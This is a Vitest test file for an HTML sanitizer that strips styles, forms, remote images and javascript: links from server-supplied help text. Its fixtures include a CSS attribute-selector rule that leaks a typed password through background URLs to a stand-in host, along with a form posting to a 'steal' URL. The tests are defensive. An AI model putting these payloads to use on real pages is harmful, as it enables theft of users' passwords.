import { describe, expect, it } from 'vitest';
import { sanitizeServerHtml } from '@/ui/sanitizeServerHtml';

const parse = (html: string) => {
  const holder = document.createElement('div');
  holder.innerHTML = sanitizeServerHtml(html);
  return holder;
};

describe('server HTML (issue: a help text leaked a typed password through <style>)', () => {
  it('drops style sheets, style attributes, forms and every form field', () => {
    const html = `<p>Rules</p><style>input[name=password][value$="D"]{background:url(https://x/pw-D)}</style>
      <link rel="stylesheet" href="https://x/a.css"><p style="background:url(https://x/inline)">Styled</p>
      <form action="https://x/steal"><input name="password"><textarea></textarea><select><option>1</option></select><button>Log in</button></form>`;
    const result = parse(html);
    expect(result.querySelectorAll('style, link, form, input, textarea, select, option, button, [style]')).toHaveLength(0);
    expect(result.textContent).toContain('Rules');
    expect(result.textContent).toContain('Styled');
  });

  it('loads images from this site only and opens links in a new tab without a handle on the page', () => {
    const result = parse(
      '<img src="https://tracker.example/p.png" alt="remote"><img src="/assets-gen/logo/a.svg" alt="local"><a href="https://example.com/rules">Rules</a><a href="javascript:alert(1)">x</a>',
    );
    const [remote, local] = [...result.querySelectorAll('img')];
    expect(remote?.getAttribute('src')).toBeNull();
    expect(local?.getAttribute('src')).toBe('/assets-gen/logo/a.svg');
    const [rules, script] = [...result.querySelectorAll('a')];
    expect(rules?.getAttribute('target')).toBe('_blank');
    expect(rules?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(script?.getAttribute('href')).toBeNull();
  });

  it('keeps the markup of real announcements', () => {
    const result = parse('<h3>Deposit</h3><ol><li>Open the wallet.</li></ol><table><tr><td><strong>UPI</strong></td></tr></table>');
    expect(result.querySelector('h3')?.textContent).toBe('Deposit');
    expect(result.querySelector('ol li')).not.toBeNull();
    expect(result.querySelector('table strong')?.textContent).toBe('UPI');
  });
});
